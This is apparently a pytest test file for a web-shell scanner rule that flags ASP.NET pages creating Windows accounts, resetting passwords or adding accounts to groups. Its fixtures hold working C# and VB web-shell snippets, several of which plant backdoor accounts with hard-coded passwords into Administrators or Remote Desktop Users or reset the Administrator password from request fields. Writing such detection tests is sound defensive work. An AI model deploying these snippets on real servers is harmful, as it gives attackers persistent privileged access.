"""EXH-WS-CODE-WINDOWS-ACCOUNT: a page creating a Windows account, setting its password or adding
it to a group with the client's values, through the WinNT ADSI provider, AccountManagement or the
network management functions, or creating one and putting it into a group with names it fixes
itself; beside intranet pages that only read accounts or let a user change their own password,
and pages doing only half of the planting (docs/detection/webshell-code.md, "Windows accounts")."""

from __future__ import annotations

import pytest

from code_support import assert_benign, assert_found, cs_page, run, vb_page

ADSI_FORM = (
    '<form runat="server"><asp:TextBox ID="txtUser" runat="server"/><asp:TextBox ID="txtPass" runat="server"/></form>'
)

SHELLS = [
    (
        "adsi.aspx",
        cs_page(
            'var machine = new System.DirectoryServices.DirectoryEntry("WinNT://" + Environment.MachineName + ",computer");\n'
            'System.DirectoryServices.DirectoryEntry user = machine.Children.Add(txtUser.Text, "user");\n'
            'user.Invoke("SetPassword", new object[] { txtPass.Text });\n'
            "user.CommitChanges();\n"
            'System.DirectoryServices.DirectoryEntry admins = machine.Children.Find("Administrators", "group");\n'
            'admins.Invoke("Add", new object[] { user.Path });'
        )
        + ADSI_FORM,
        ["page control 'txtuser'", "creates or changes the Windows account it names", "Children.Add"],
    ),
    (
        "principal.aspx",
        cs_page(
            "var ctx = new System.DirectoryServices.AccountManagement.PrincipalContext("
            "System.DirectoryServices.AccountManagement.ContextType.Machine);\n"
            'var u = new System.DirectoryServices.AccountManagement.UserPrincipal(ctx, Request["u"], Request["p"], true);\n'
            "u.Save();"
        ),
        ["request parameter 'u'", "new UserPrincipal"],
    ),
    (
        "reset.aspx",
        cs_page(
            "var ctx = new System.DirectoryServices.AccountManagement.PrincipalContext("
            "System.DirectoryServices.AccountManagement.ContextType.Machine);\n"
            "System.DirectoryServices.AccountManagement.UserPrincipal u = "
            'System.DirectoryServices.AccountManagement.UserPrincipal.FindByIdentity(ctx, "Administrator");\n'
            'u.SetPassword(Request.Form["pw"]);\n'
            "u.Save();"
        ),
        ["form field 'pw'", "UserPrincipal.SetPassword"],
    ),
    (
        # The same with the type left to the compiler: what FindByIdentity returns is a UserPrincipal.
        "reset-var.aspx",
        cs_page(
            "var ctx = new System.DirectoryServices.AccountManagement.PrincipalContext("
            "System.DirectoryServices.AccountManagement.ContextType.Machine);\n"
            'var u = System.DirectoryServices.AccountManagement.UserPrincipal.FindByIdentity(ctx, Request["n"]);\n'
            'u.SetPassword(Request["pw"]);\nu.Save();'
        ),
        ["request parameter 'pw'", "UserPrincipal.SetPassword"],
    ),
]

BENIGN = [
    (
        "users.aspx",
        # An intranet page listing the server's local accounts.
        cs_page(
            'var machine = new System.DirectoryServices.DirectoryEntry("WinNT://" + Environment.MachineName + ",computer");\n'
            "foreach (System.DirectoryServices.DirectoryEntry child in machine.Children)\n"
            '    if (child.SchemaClassName == "User") list.Items.Add(child.Name);'
        ),
    ),
    (
        "mypassword.aspx",
        # A user changing their own domain password, who must give the old one.
        cs_page(
            "var ctx = new System.DirectoryServices.AccountManagement.PrincipalContext("
            "System.DirectoryServices.AccountManagement.ContextType.Domain);\n"
            "var me = System.DirectoryServices.AccountManagement.UserPrincipal.FindByIdentity(ctx, User.Identity.Name);\n"
            'me.ChangePassword(Request.Form["old"], Request.Form["new"]);'
        ),
    ),
    (
        "grid.aspx",
        # A control tree's `Children.Add` in a page that names no account API.
        cs_page('var node = new TreeNode(Request["title"]);\ntree.Children.Add(node);'),
    ),
]


@pytest.mark.parametrize(("name", "code", "words"), SHELLS, ids=[s[0] for s in SHELLS])
def test_account_change_found(name: str, code: str, words: list[str]) -> None:
    assert_found(name, code, "EXH-WS-CODE-WINDOWS-ACCOUNT", words)


@pytest.mark.parametrize(("name", "code"), BENIGN, ids=[b[0] for b in BENIGN])
def test_benign_account_pages(name: str, code: str) -> None:
    report = assert_benign(name, code)
    assert "EXH-WS-CODE-WINDOWS-ACCOUNT" not in [c.rule_id for c in report.capabilities]


FIXED_ADSI = SHELLS[0][1].replace("txtUser.Text", '"backup"').replace("txtPass.Text", '"Spring2021!"')

FIXED_PRINCIPAL = cs_page(
    "var ctx = new System.DirectoryServices.AccountManagement.PrincipalContext("
    "System.DirectoryServices.AccountManagement.ContextType.Machine);\n"
    'var u = new System.DirectoryServices.AccountManagement.UserPrincipal(ctx, "support", "P@ss1", true);\n'
    "u.Save();\n"
    'var g = System.DirectoryServices.AccountManagement.GroupPrincipal.FindByIdentity(ctx, "Administrators");\n'
    "g.Members.Add(u);\ng.Save();"
)

FIXED_VB = vb_page(
    'Dim machine As New System.DirectoryServices.DirectoryEntry("WinNT://" & Environment.MachineName)\n'
    'Dim u = machine.Children.Add("helpdesk", "user")\n'
    'u.Invoke("SetPassword", New Object() {"Winter2021!"})\n'
    "u.CommitChanges()\n"
    'Dim g = machine.Children.Find("Remote Desktop Users", "group")\n'
    'g.Invoke("Add", New Object() {u.Path})'
)


@pytest.mark.parametrize(
    ("name", "code", "words"),
    [
        ("fixed.aspx", FIXED_ADSI, ["Children.Add", "backup", "DirectoryEntry.Invoke", "Add"]),
        ("principal-fixed.aspx", FIXED_PRINCIPAL, ["new UserPrincipal", "support", "Members.Add"]),
        ("fixed-vb.aspx", FIXED_VB, ["Children.Add", "helpdesk", "DirectoryEntry.Invoke"]),
    ],
    ids=["adsi", "account management", "vb"],
)
def test_a_page_planting_an_account_of_its_own_is_found(name: str, code: str, words: list[str]) -> None:
    # The account and its group are fixed in the page: every visit makes or restores it.
    report = assert_found(name, code, "EXH-WS-CODE-WINDOWS-ACCOUNT", ["with names the page fixes", *words])
    assert [c.rule_id for c in report.capabilities].count("EXH-WS-CODE-WINDOWS-ACCOUNT") == 1


@pytest.mark.parametrize(
    "body",
    [
        # an account made, never put into a group
        'var m = new System.DirectoryServices.DirectoryEntry("WinNT://" + Environment.MachineName);\n'
        'var u = m.Children.Add("kiosk", "user");\nu.Invoke("SetPassword", new object[] { "kiosk" });\nu.CommitChanges();',
        # an installer granting the application pool's identity a group, no account made
        'var g = new System.DirectoryServices.DirectoryEntry("WinNT://./IIS_IUSRS,group");\n'
        'g.Invoke("Add", new object[] { "WinNT://NT AUTHORITY/NETWORK SERVICE" });',
    ],
    ids=["account only", "group only"],
)
def test_half_of_planting_an_account_stays_quiet(body: str) -> None:
    report = assert_benign("setup.aspx", cs_page(body))
    assert "EXH-WS-CODE-WINDOWS-ACCOUNT" not in [c.rule_id for c in report.capabilities]


def test_a_fixed_account_beside_the_clients_own_is_reported_as_the_clients() -> None:
    code = SHELLS[0][1].replace("txtPass.Text", '"fixed"')
    chains = [c.chain for c in run("mixed.aspx", code).capabilities if c.rule_id == "EXH-WS-CODE-WINDOWS-ACCOUNT"]
    assert chains and all("names the page fixes" not in c for c in chains)
